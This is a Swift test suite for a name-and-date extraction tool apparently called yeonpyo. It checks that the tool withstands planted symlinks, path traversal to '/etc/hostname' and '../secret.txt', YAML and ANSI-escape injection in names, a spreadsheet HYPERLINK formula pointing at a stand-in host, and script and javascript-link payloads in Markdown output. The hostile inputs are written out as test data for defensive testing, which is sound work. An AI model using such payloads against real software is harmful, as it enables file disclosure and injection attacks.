import Foundation
import Testing

/// Files and moments that somebody made to break a run, or to get more out of it than names and dates.
@Suite struct HostileTests {
  private static let show = """
    entities:
      - {id: person/anna-zorb, type: person, name: Anna Zorb, plays: [character/zed]}
      - {id: character/zed, type: character, name: {en: Zed Quill, ko: 제드퀼}}

    """

  /// A compiled gazetteer that is cut short while it is in use ends the run with a message.
  @Test func toldOfLostGazetteer() throws {
    let tool = try Tool()
    try tool.write("show.yaml", HostileTests.show)
    let line = "{\"text\":\"" + String(repeating: "Anna Zorb left Seoul. ", count: 50) + "\"}\n"
    try tool.write("big.jsonl", String(repeating: line, count: 4_000))
    let outcome = try tool.shell(
      """
      "$YEONPYO" gazetteer build -q show.yaml -o live.ypg && mkfifo pipe &&
        { "$YEONPYO" extract -q -j 1 -g live.ypg pipe > out.jsonl & } && exec 3> pipe &&
        head -1 big.jsonl >&3 && sleep 0.3 && : > live.ypg && cat big.jsonl >&3; exec 3>&-; wait $!
      """)
    #expect(outcome.status == 5)
    #expect(outcome.messages.contains("was changed while it was in use"), "\(outcome.messages)")
  }

  /// The cache removes and waits for nothing that is not its own.
  @Test func leavesStrangersInTheCache() throws {
    let tool = try Tool()
    try tool.write("show.yaml", HostileTests.show)
    for number in 0..<20 { try tool.write("c/yeonpyo/important\(number).txt", "x") }
    let outcome = try tool.shell(
      """
      export XDG_CACHE_HOME="$PWD/c"
      for number in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
        echo "# $number" >> show.yaml; echo x | "$YEONPYO" extract -q -g show.yaml > /dev/null || exit 1
      done
      for file in c/yeonpyo/*.ypg; do rm "$file"; mkfifo "$file"; done
      echo x | timeout 20 "$YEONPYO" extract -q -g show.yaml
      """)
    #expect(outcome.status == 0, "\(outcome.messages)")
    #expect(outcome.lines.count == 1)
    #expect(try tool.names("c/yeonpyo").count { $0.hasSuffix(".txt") } == 20)
  }

  /// What is written is never where somebody put a link.
  @Test func followsNoPlantedLink() throws {
    let tool = try Tool()
    try tool.write("mine.txt", "mine")
    let outcome = try tool.shell(
      """
      mkdir d; for number in 1 2 3; do ln -s ../mine.txt d/.out.jsonl.partial-$number; done
      for number in $(seq $$ $(($$ + 300))); do ln -s ../mine.txt d/.out.jsonl.partial-$number; done 2> /dev/null
      echo x | "$YEONPYO" extract -q - -o d/out.jsonl
      """)
    #expect(outcome.status == 0)
    #expect(try tool.read("mine.txt") == "mine")
    #expect(try tool.read("d/out.jsonl").contains("\"kind\":\"document\""))
  }

  @Test(arguments: [
    ("t.tsv", "person/e\tperson\tEvil \u{1B}[31mRed\t\t\t\t\n", "control character"),
    ("t.tsv", "person/\u{1B}e\tperson\tEvil Red\t\t\t\t\n", "holds a space"),
    (
      "t.jsonl", #"{"id":"person/e","type":"person","name":"Evil \u001b[31m"}"#, "control character"
    ),
    (
      "t.tsv", "person/e\tperson\t\(String(repeating: "Ab ", count: 200))z\t\t\t\t\n",
      "more than 200"
    ),
  ])
  func refusesNames(_ name: String, _ text: String, _ message: String) throws {
    let tool = try Tool()
    try tool.write(name, text)
    let outcome = try tool.run("gazetteer check \(name)")
    #expect(outcome.status == 5)
    #expect(outcome.messages.contains(message), "\(outcome.messages)")
    #expect(!outcome.messages.utf8.contains(0x1B))
  }

  /// Lists of others bring names and nothing else.
  @Test func importsNamesOnly() throws {
    let tool = try Tool()
    try tool.write("secret.txt", "secret name\n")
    try tool.write("sub/lists.def", "../secret.txt:person\n")
    try tool.write("sub/rooted.def", "/etc/hostname:person\n")
    for list in ["lists", "rooted"] {
      let gate = try tool.run("gazetteer import --format gate sub/\(list).def -o gate.yaml")
      #expect(gate.status == 5 && gate.messages.contains("sub/\(list).def:1:1: error"))
    }
    try tool.write(
      "items.json",
      #"{"entities":{"a":{"id":"Q1\n    type: person\n    name: Evil\n  - id: person/evil2","labels":{"en":{"language":"en","value":"Foo Bar"}}},"Q2":{"id":"Q2","labels":{"en":{"language":"en","value":"Anna Zorb"}}}}}"#
    )
    #expect(try tool.run("gazetteer import items.json -o items.yaml").status == 0)
    #expect(try tool.read("items.yaml").contains("Anna Zorb"))
    #expect(!(try tool.read("items.yaml")).contains("evil2"))
    try tool.write("cast.txt", "Kim \u{5}Ara - Captain Moon\nHan Bo - Zed Quill\n")
    let cast = try tool.run("gazetteer import cast.txt --show X -o cast.yaml")
    #expect(cast.messages.contains("left out"))
    #expect(try tool.run("gazetteer check cast.yaml").status == 0)
  }

  /// Cells that no spreadsheet computes, Markdown without HTML and links.
  @Test func writesNothingThatActs() throws {
    let tool = try Tool()
    try tool.write("show.yaml", HostileTests.show)
    let arguments = "-q -g show.yaml --date 2021-03-15"
    try tool.write("f.txt", "=HYPERLINK(\"http://x.example/\"&A1) Anna Zorb died yesterday.\n")
    let cells = try tool.run("timeline f.txt \(arguments) --format csv").text
    #expect(cells.contains("\"'=HYPERLINK"))
    try tool.write(
      "m.txt",
      "Anna Zorb <script>alert(1)</script> [a](javascript:alert(1)) married Kim yesterday at http://x.example www.x.example.\n"
    )
    let table = try tool.run("timeline m.txt \(arguments) --format markdown").text
    #expect(table.contains("Anna Zorb"))
    for text in ["<script", "[a](", "http://", "www.x"] {
      #expect(!table.contains(text), "\(table)")
    }
  }

  /// A run that is killed while it puts its files in place leaves a sign, and the next one goes on from there.
  @Test func toldOfHalfASplit() throws {
    let tool = try Tool()
    try tool.write("show.yaml", HostileTests.show)
    try tool.write("news/2021-03-15-a.txt", "Anna Zorb died yesterday.\n")
    #expect(try tool.run("extract -q -g show.yaml news --split out").status == 0)
    try tool.write("out/.mention.jsonl.partial-7", "new\n")
    try tool.write("out/.x.partial-1", "evil\n")
    try tool.write(
      "out/.publishing", ".mention.jsonl.partial-7\tmention.jsonl\n.x.partial-1\t../evil.jsonl\n")
    let timeline = try tool.run("timeline out/event.jsonl")
    #expect(timeline.messages.contains("some may be of an earlier one"))
    let again = try tool.shell(
      "\"$YEONPYO\" extract -q -g show.yaml missing --split out --kind event; cat out/mention.jsonl; ls -a out ."
    )
    #expect(again.text.hasPrefix("new\n"), "\(again.text)")
    #expect(!again.text.contains(".publishing") && !again.text.contains("mention.jsonl.partial"))
    #expect(!again.text.contains("evil.jsonl"))
  }

  /// Its own records are no articles.
  @Test func passesOverOwnRecords() throws {
    let tool = try Tool()
    try tool.write("show.yaml", HostileTests.show)
    try tool.write("d/2021-03-15-a.txt", "Anna Zorb died yesterday.\n")
    let first = try tool.run("extract -q -g show.yaml d --split d")
    let second = try tool.run("extract -g show.yaml d --kind document,mention")
    #expect(first.status == 0 && second.status == 0)
    #expect(try second.records("document").count == 1)
    #expect(second.messages.contains("lines are records of yeonpyo's own"))
  }

  /// One line out for one line in, whatever stands in it.
  @Test func nestsEveryLine() throws {
    let tool = try Tool()
    try tool.write("show.yaml", HostileTests.show)
    let lines = [
      #"{"text":"Anna Zorb left."}"#, "", "  ", "\u{2028}", "{", #"{"text":5}"#,
      #"{"kind":"mention","doc":"a","id":"a#m1"}"#, #"{"text":"b","date":"x"}"#,
    ]
    try tool.write("in.jsonl", lines.map { $0 + "\n" }.joined())
    let outcome = try tool.shell(
      "\"$YEONPYO\" extract -q -g show.yaml --input-format jsonl --nested < in.jsonl")
    #expect(outcome.lines.count == lines.count)
  }

  /// A day that no calendar of ours has is none on the day of writing.
  @Test func datesNothingBeforeItsCalendar() throws {
    let tool = try Tool()
    try tool.write("show.yaml", HostileTests.show)
    try tool.write("a.txt", "Anna Zorb was born in 44 BC.\n")
    let entries = try tool.run("timeline -q -g show.yaml --date 2021-03-15 a.txt").records()
    #expect(!entries.isEmpty)
    #expect(entries.allSatisfy { $0["startDate"] is NSNull && $0["endDate"] is NSNull })
  }

  /// A compiled gazetteer of another program is told, with what to do.
  @Test func tellsOfForeignBuilds() throws {
    let tool = try Tool()
    try tool.write("show.yaml", HostileTests.show)
    #expect(try tool.run("gazetteer build -q show.yaml -o a.ypg").status == 0)
    var bytes = Array(try Data(contentsOf: URL(fileURLWithPath: tool.path("a.ypg"))))
    bytes[9] ^= 0x7F
    try tool.write("b.ypg", bytes)
    let outcome = try tool.shell("echo x | \"$YEONPYO\" extract -g b.ypg")
    #expect(
      outcome.status == 5 && outcome.messages.contains("build it again"), "\(outcome.messages)")
  }

  /// Ten thousand bearers of one name cost no more than one.
  @Test(.timeLimit(.minutes(1))) func readsNamesOfThousands() throws {
    let tool = try Tool()
    let rows = (0..<10_000).map { "person/p\($0)\tperson\tKim Min\t\t\t\t\n" }
    try tool.write("t.tsv", rows.joined())
    try tool.write("a.txt", String(repeating: "Kim Min spoke. ", count: 300))
    let outcome = try tool.run("extract -q -g t.tsv a.txt --kind mention")
    #expect(outcome.lines.count == 300)
    let first = try outcome.records().first
    #expect(first?["label"] as? String == "person" && first?["entity"] is NSNull)
  }
}
